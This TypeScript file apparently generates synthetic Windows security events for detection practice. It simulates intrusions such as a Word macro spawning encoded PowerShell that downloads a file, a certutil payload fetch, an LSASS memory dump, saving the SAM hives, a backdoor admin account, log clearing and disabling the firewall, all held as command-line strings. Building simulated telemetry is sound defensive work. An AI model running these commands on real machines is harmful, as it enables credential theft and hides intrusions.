import { type Device, systems } from '../estate/index.ts';
import {
  accountCreated,
  type DeviceEvent,
  legacyAdministratorAdded,
  legacySecurityLogCleared,
  logCleared,
  loggedOn,
  logonFailed,
  type Moment,
  memberAdded,
  type ProcessDetail,
  processCreated,
  securityLogCleared,
  serviceInstalled,
  serviceState,
  shareFileWritten,
  sysmonAccess,
  sysmonConnection,
  sysmonFile,
  sysmonProcess,
  sysmonQuery,
  sysmonRegistry,
  taskCreated,
} from '../events/index.ts';
import type { Random } from '../random.ts';

/** Something that should not have happened, on one device. */
export interface Incident {
  readonly name: string;
  /** Devices it may happen on. */
  readonly fits: (device: Device) => boolean;
  readonly events: (moment: Moment, random: Random) => DeviceEvent[];
}

const system32 = 'C:\\Windows\\System32\\';
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const cmd = `${system32}cmd.exe`;

const today = (device: Device): boolean => !device.system.legacy && device.system !== systems.linux;
const desktop = (device: Device): boolean => today(device) && !device.system.server;
const watched = (device: Device): boolean => desktop(device) && device.sysmon;
const serverToday = (device: Device): boolean => today(device) && device.system.server;
const controller = (device: Device): boolean => device.role.mark === 'DC';

const later = ({ device, time }: Moment, seconds: number): Moment => ({
  device,
  time: time + seconds * 1000,
});
const person = ({ device }: Moment, random: Random) => random.pick(device.users);

/** A process as the device records it: by Sysmon where it runs, else by the audit of process creation. */
function started(moment: Moment, process: ProcessDetail, random: Random): DeviceEvent {
  return moment.device.sysmon
    ? sysmonProcess(moment, process, random)
    : processCreated(moment, process, random);
}

/** A script as PowerShell's option takes it: UTF-16 in base64. */
const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

export const incidents: readonly Incident[] = [
  {
    name: 'encoded PowerShell out of a document',
    fits: watched,
    events(moment, random) {
      const user = person(moment, random);
      const parent = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
      const script = encoded(
        `$c = New-Object Net.WebClient; $c.DownloadFile('http://198.51.100.${random.whole(10, 99)}/i.bin', $env:TEMP)`,
      );
      return [
        started(
          moment,
          {
            image: powershell,
            commandLine: `powershell.exe -nop -w hidden -enc ${script}`,
            parent,
            parentCommandLine: `"${parent}" /n "C:\\Users\\${user.name}\\Downloads\\Invoice ${random.whole(1000, 9999)}.doc"`,
            user,
          },
          random,
        ),
        sysmonConnection(later(moment, 2), powershell, { address: '198.51.100.24', port: 80 }, random, user),
      ];
    },
  },
  {
    name: 'remote support tool installed',
    fits: watched,
    events(moment, random) {
      const user = person(moment, random);
      const download = `C:\\Users\\${user.name}\\Downloads\\AnyDesk.exe`;
      const installed = 'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe';
      return [
        started(
          moment,
          { image: download, commandLine: `"${download}"`, parent: 'C:\\Windows\\explorer.exe', user },
          random,
        ),
        serviceInstalled(later(moment, 14), 'AnyDesk Service', `"${installed}" --service`, 'auto start'),
        sysmonQuery(
          later(moment, 16),
          installed,
          { name: 'relay-7c1d.net.anydesk.com', results: '::ffff:203.0.113.61;' },
          random,
        ),
      ];
    },
  },
  {
    name: 'audit log cleared',
    fits: serverToday,
    events(moment, random) {
      const user = person(moment, random);
      return [
        started(
          moment,
          { image: `${system32}wevtutil.exe`, commandLine: 'wevtutil cl System', parent: cmd, user },
          random,
        ),
        logCleared(later(moment, 1), 'System'),
        securityLogCleared(later(moment, 3), user),
      ];
    },
  },
  {
    name: 'new local administrator',
    fits: desktop,
    events(moment, random) {
      const user = person(moment, random);
      const name = random.pick(['support2', 'svc_help', 'itadmin']);
      const net = (commandLine: string): ProcessDetail => ({
        image: `${system32}net.exe`,
        commandLine,
        parent: cmd,
        user,
      });
      return [
        started(moment, net(`net user ${name} Winter-${random.whole(1000, 9999)} /add`), random),
        accountCreated(later(moment, 1), user, name),
        started(later(moment, 4), net(`net localgroup Administrators ${name} /add`), random),
        memberAdded(later(moment, 5), user, {
          eventId: 4732,
          name: 'Administrators',
          sid: 'S-1-5-32-544',
          domain: 'Builtin',
        }),
      ];
    },
  },
  {
    name: 'service created from another machine',
    fits: serverToday,
    events(moment, random) {
      const user = person(moment, random);
      const service = random.hex(8);
      const from = moment.device.address.replace(/\d+$/, '77');
      return [
        loggedOn(moment, user, { type: 3, address: from, workstation: '-', logonId: '0x9d02c1' }),
        shareFileWritten(later(moment, 1), user, { share: 'ADMIN$', file: `${service}.exe`, address: from }),
        serviceInstalled(later(moment, 2), service, `%systemroot%\\${service}.exe`, 'demand start'),
        serviceState(later(moment, 3), service, 'running'),
      ];
    },
  },
  {
    name: 'passwords tried until one fits, from the internet',
    fits: serverToday,
    events(moment, random) {
      const address = `203.0.113.${random.whole(20, 220)}`;
      const names = ['administrator', 'admin', 'backup', 'scanner', 'reception'];
      const tries = Array.from({ length: 24 }, (_, index) =>
        logonFailed(later(moment, index), random.pick(names), { type: 3, address, workstation: 'KALI' }),
      );
      const who = { name: 'administrator', sid: `${moment.device.domainSid}-500` };
      return [
        ...tries,
        loggedOn(later(moment, 26), who, {
          type: 10,
          address,
          workstation: moment.device.shortName,
          logonId: '0x7ab311',
        }),
      ];
    },
  },
  {
    name: 'memory of the security authority read',
    fits: (device) => serverToday(device) && device.sysmon,
    events(moment, random) {
      const user = person(moment, random);
      const commandLine =
        'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d.dmp full';
      const image = `${system32}rundll32.exe`;
      return [
        started(moment, { image, commandLine, parent: powershell, user }, random),
        sysmonAccess(later(moment, 1), image, `${system32}lsass.exe`, random),
      ];
    },
  },
  {
    name: 'password hives saved',
    fits: serverToday,
    events: (moment, random) =>
      ['sam', 'system'].map((hive, index) =>
        started(
          later(moment, index * 3),
          {
            image: `${system32}reg.exe`,
            commandLine: `reg save HKLM\\${hive} C:\\Windows\\Temp\\${hive}.hiv`,
            parent: cmd,
            user: person(moment, random),
          },
          random,
        ),
      ),
  },
  {
    name: 'program fetched with certutil',
    fits: desktop,
    events: (moment, random) => [
      started(
        moment,
        {
          image: `${system32}certutil.exe`,
          commandLine: `certutil -urlcache -split -f http://198.51.100.${random.whole(10, 99)}/a.txt C:\\Users\\Public\\a.exe`,
          parent: cmd,
          user: person(moment, random),
        },
        random,
      ),
    ],
  },
  {
    name: 'task that runs from a temporary folder',
    fits: desktop,
    events: (moment, random) => [
      taskCreated(
        moment,
        person(moment, random),
        `\\Updater${random.hex(4)}`,
        `C:\\Windows\\Temp\\upd${random.hex(4)}.exe`,
      ),
    ],
  },
  {
    name: 'member of the domain administrators added at night',
    fits: controller,
    events: (moment, random) => [
      memberAdded(moment, person(moment, random), {
        eventId: 4728,
        name: 'Domain Admins',
        sid: `${moment.device.domainSid}-512`,
        domain: moment.device.domain,
      }),
    ],
  },
  {
    name: 'macro security lowered and script opened from mail',
    fits: watched,
    events(moment, random) {
      const user = person(moment, random);
      const outlook = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
      const target = `HKU\\${user.sid}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings`;
      const script = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${random.hex(8).toUpperCase()}\\statement.js`;
      return [
        started(
          moment,
          {
            image: `${system32}wscript.exe`,
            commandLine: `"${system32}wscript.exe" "${script}"`,
            parent: outlook,
            user,
          },
          random,
        ),
        sysmonRegistry(later(moment, 3), `${system32}wscript.exe`, target, 'DWORD (0x00000001)', random),
        sysmonFile(
          later(moment, 4),
          `${system32}wscript.exe`,
          `C:\\Users\\${user.name}\\AppData\\Local\\Temp\\r${random.hex(4)}.tmp`,
          random,
          user,
        ),
      ];
    },
  },
  {
    name: 'firewall switched off',
    fits: desktop,
    events: (moment, random) => [
      started(
        moment,
        {
          image: `${system32}netsh.exe`,
          commandLine: 'netsh advfirewall set allprofiles state off',
          parent: cmd,
          user: person(moment, random),
        },
        random,
      ),
    ],
  },
  {
    name: 'audit log cleared on old kit',
    fits: (device) => device.system.legacy && device.role.clinicalKit === true,
    events: (moment, random) => {
      const user = person(moment, random).name;
      return [legacyAdministratorAdded(moment, user), legacySecurityLogCleared(later(moment, 30), user)];
    },
  },
];
